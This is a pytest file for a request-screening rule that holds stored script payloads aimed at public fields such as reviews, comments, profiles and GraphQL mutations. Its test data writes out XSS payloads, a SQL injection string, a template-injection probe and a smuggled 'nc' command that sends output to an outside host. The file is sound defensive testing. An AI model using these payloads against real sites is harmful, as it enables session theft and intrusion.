"""Tests of fairwitness.rules.public_payload."""

from __future__ import annotations

import json

import pytest

from fairwitness.model.account import Account
from fairwitness.model.exchange import Headers, Initiator, Request
from fairwitness.model.flag import Severity
from fairwitness.model.verdict import Action
from fairwitness.rules import Knowledge, Runner
from fairwitness.rules.testing import NOON_US, make_exchange, make_line, make_policy, make_request

LINE = make_line("public-payload", Action.HOLD)
JSON: Headers = ((b"content-type", b"application/json"),)
MUTATION = "mutation($t: String!) { addComment(t: $t) { id } }"
SCRIPT = "<script>alert(1)</script>"
QUOTED = '<blockquote class="quote"><p>Hello</p></blockquote>'


def _runner() -> Runner:
    known = Knowledge([Account("first", ("me@example.org", "41"))])
    return Runner(make_policy(rules=[LINE]), next_flag=1, now_us=NOON_US, known=known)


def _send(path: str, form: object, *, method: str = "POST", initiator: Initiator = Initiator.TOOL) -> Request:
    body = json.dumps(form).encode()
    return make_request(
        f"https://shop.test{path}", method=method, headers=JSON, body=body, initiator=initiator
    )


def _action(request: Request) -> Action:
    return _runner().judge_request(request, in_scope=True).action


@pytest.mark.parametrize(
    ("method", "path", "form"),
    [
        ("POST", "/products/7/reviews", {"text": SCRIPT}),
        ("POST", "/posts/7/comments", {"comment": '"><svg onload=alert(1)>'}),
        ("PUT", "/forum/threads/9", {"title": "<img src=x onerror=alert(1)>"}),
        ("POST", "/articles", {"body": "<iframe src='javascript:alert(1)'></iframe>"}),
        ("POST", "/articles", {"body": "<iframe src='https://a.example' onload=alert(1)></iframe>"}),
        ("POST", "/articles", {"body": "<img src='data:image/png;base64,iVBO' onerror=alert(1)>"}),
        ("PATCH", "/users/41", {"display_name": SCRIPT}),
        ("POST", "/settings", {"bio": SCRIPT}),
        ("PATCH", "/users/41", [{"op": "replace", "path": "/bio", "value": SCRIPT}]),
        ("PATCH", "/users/41", [{"op": "add", "path": "/nickname/0", "value": SCRIPT}]),
        ("POST", "/articles", {"body": '<script src="https://w.example/a.js"></script>'}),
        ("POST", "/articles", {"body": QUOTED + "<script>alert(1)</script>"}),
        ("POST", "/graphql", {"query": MUTATION, "variables": {"t": SCRIPT}}),
    ],
)
def test_script_that_others_would_run_is_held(method: str, path: str, form: object) -> None:
    """Comments, reviews, forums, public names, mutations."""
    assert Action.HOLD == _action(_send(path, form, method=method))


@pytest.mark.parametrize(
    ("path", "form"),
    [
        ("/login", {"username": SCRIPT, "password": "x"}),
        ("/account", {"name": SCRIPT}),
        ("/account", [{"op": "replace", "path": "/name", "value": SCRIPT}]),
        ("/orders/7", {"note": SCRIPT}),
        ("/contact", {"message": SCRIPT}),
        ("/posts/search", {"q": SCRIPT}),
        ("/posts", {"body": SCRIPT, "visibility": "only-me"}),
        ("/posts", {"body": SCRIPT, "published": "false"}),
        ("/reviews", {"text": "' OR 1=1--"}),
        ("/reviews", {"text": "<b>x</b> {{7*7}}"}),
        ("/reviews", {"text": "; id | nc 192.0.2.1"}),
        ("/articles", {"body": "<p>Mugs</p><img src='/m.png' alt='a mug'><a href='/b'>more</a>"}),
        ("/articles", {"body": "<p style='color:red'>x</p><iframe src='https://video.example/1'></iframe>"}),
        ("/articles", {"body": "<p>x<img src='data:image/png;base64,iVBORw0KGgo='></p>"}),
        ("/articles", {"body": QUOTED + '<script async src="https://w.example/a.js"></script>'}),
        ("/articles", {"body": "<pre><code>&lt;b&gt;</code></pre> (see `x`) and 100%"}),
        ("/articles", {"body": "<figure class='image'><img src='/a.webp' srcset='/b 2x'></figure>"}),
        ("/articles", {"body": "How to write it:\n\nA page\nhas lines\n<script>one()</script>\n"}),
    ],
)
def test_what_nobody_runs_is_left_alone(path: str, form: object) -> None:
    """Elsewhere, hidden, on the server's side, harmless, written in an editor."""
    assert Action.ALLOW == _action(_send(path, form))


def test_search_that_reflects_is_no_place() -> None:
    """Only who sends it sees it."""
    url = "https://shop.test/reviews?q=%3Cscript%3Ealert(1)%3C/script%3E"

    assert Action.ALLOW == _action(make_request(url))


def test_comment_on_ones_own_order_is_private() -> None:
    """What lies below a private object of one's own is seen by oneself."""
    runner = _runner()
    made = _send("/orders", {"item": 7})
    answer = make_exchange(made, status=201, headers=JSON, body=b'{"id": 90210}')
    runner.known.learn(answer, in_scope=True)

    judged = runner.judge_request(_send("/orders/90210/comments", {"text": SCRIPT}), in_scope=True)

    assert Action.ALLOW == judged.action


def test_page_that_stores_a_script_frames_nobody() -> None:
    """The flag is info and says that a page did it; it is held all the same."""
    runner = _runner()
    judged = runner.judge_request(
        _send("/reviews", {"text": SCRIPT}, initiator=Initiator.PAGE), in_scope=True
    )

    assert Action.HOLD == judged.action
    assert [Severity.INFO] == [flag.severity for flag in runner.flags]


def test_flag_says_the_field_and_not_the_payload() -> None:
    """What it was stands in the bytes that the flag points at."""
    runner = _runner()
    judged = runner.judge_request(_send("/reviews", {"text": SCRIPT}), in_scope=True)

    assert "a script in 'text' of a review" in judged.reason
    assert "alert" not in judged.reason
